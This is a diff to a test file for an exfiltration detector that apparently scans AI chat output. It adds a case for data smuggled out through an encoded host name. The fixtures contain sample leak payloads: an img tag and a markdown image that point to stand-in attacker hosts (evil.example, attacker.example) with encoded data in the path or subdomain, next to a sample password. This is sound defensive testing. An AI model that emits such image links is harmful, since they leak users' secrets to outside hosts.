@@ -11,7 +11,7 @@ import {
   MARKDOWN_REFERENCE,
   NESTED_LINK_TARGET,
 } from "./url-carriers.js";
-import { hostAllowed, looksEncoded, splitUrl } from "./url-signals.js";
+import { ENCODED_HOST_LABEL, hostAllowed, looksEncoded, looksEncodedHost, splitUrl } from "./url-signals.js";
 
 const conversation = ["My password is Hunter2Winter and the merger with Halcyon closes Friday."];
 const detector = exfiltrationDetector.create(exfiltrationDetector.optionsSchema.parse({}));
@@ -45,6 +45,13 @@ describe("exfiltration", () => {
     const [finding] = scan(`<img src="https://evil.example/i/${"aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW"}.gif">`);
     expect(finding?.rule).toBe("html-tag");
     expect(finding?.type).toBe("encoded-data");
+  });
+
+  it("flags data carried in a host name (DNS exfiltration)", () => {
+    const [finding] = scan("![x](https://mzxw6ytboi2gs3tfmrzxg5dbmrqw4zlt.attacker.example/p.png)");
+    expect(finding?.type).toBe("encoded-data");
+    expect(looksEncodedHost("d1a2b3c4d5e6f7.cloudfront.net")).toBe(false);
+    expect(ENCODED_HOST_LABEL.test("a".repeat(24))).toBe(true);
   });
 
   it("flags a markdown link with a long query string", () => {
